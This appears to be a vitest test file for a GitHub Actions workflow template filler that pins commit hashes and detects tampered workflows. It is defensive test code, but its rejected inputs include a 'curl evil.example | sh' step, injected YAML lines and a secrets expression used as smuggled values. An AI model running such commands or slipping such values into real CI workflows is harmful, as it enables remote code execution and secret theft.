import { expect, test } from 'vitest';
import { fill, follows, isFilling, openWords } from '../../../src/hosting/github/setup/fill.ts';

const template = `# GENESIS is the id that qms init printed
jobs:
  a:
    steps:
      - uses: actions/checkout@COMMIT_OF_CHECKOUT
      - uses: git-qms/git-qms@COMMIT_OF_GIT_QMS
        with:
          genesis: GENESIS
          other: \${{ vars.QMS_GENESIS }}
`;

test('fills in what is known, leaves comments and names alone, and says what is open', () => {
  expect(openWords(template)).toEqual(['COMMIT_OF_CHECKOUT', 'COMMIT_OF_GIT_QMS', 'GENESIS']);
  const filled = fill(template, { GENESIS: '1'.repeat(40) });
  expect(openWords(filled)).toEqual(['COMMIT_OF_GIT_QMS']);
  expect(filled).toMatch(/^# GENESIS is the id/);
  expect(filled).toMatch(/checkout@[0-9a-f]{40} # v\d/);
  expect(filled).toContain('vars.QMS_GENESIS');
});

test('a workflow follows a template whatever stands for its open words, and not if anything else differs', () => {
  const filled = fill(template, { GENESIS: '1'.repeat(40) });
  const live = fill(filled, { COMMIT_OF_GIT_QMS: '2'.repeat(40) });
  expect(follows(live, filled)).toBe(true);
  expect(follows(`# ours\n${live}`, filled)).toBe(true);
  expect(follows(fill(filled, { COMMIT_OF_GIT_QMS: 'main' }), filled)).toBe(false);
  expect(follows(live.replace('1'.repeat(40), '2'.repeat(40)), template)).toBe(true);
  expect(follows(live.replace('1'.repeat(40), '$' + '{{ vars.X }}'), template)).toBe(false);
  expect(follows(live.replace('1111', '3333'), filled)).toBe(false);
  expect(follows(`${live}      - run: curl evil.example | sh\n`, filled)).toBe(false);
  expect(follows(live.replace('2'.repeat(40), `${'2'.repeat(40)}\n      - run: evil`), filled)).toBe(false);
});

test.each([
  ['COMMIT_OF_GIT_QMS', '2'.repeat(40), true],
  ['COMMIT_OF_GIT_QMS', 'v1', false],
  ['SUITE', 'unit', true],
  ['SUIT', 'unit', false],
  ['GENESIS', '1'.repeat(40), false],
  ['TEST_WORKFLOW_PATH', '.github/workflows/test.yml', true],
  ['SUITE', 'unit\n  evil: true', false],
  ['SUITE', '${' + '{ secrets.X }}', false],
])('%s=%j: %s', (name, value, may) => {
  expect(isFilling(name, value)).toBe(may);
});
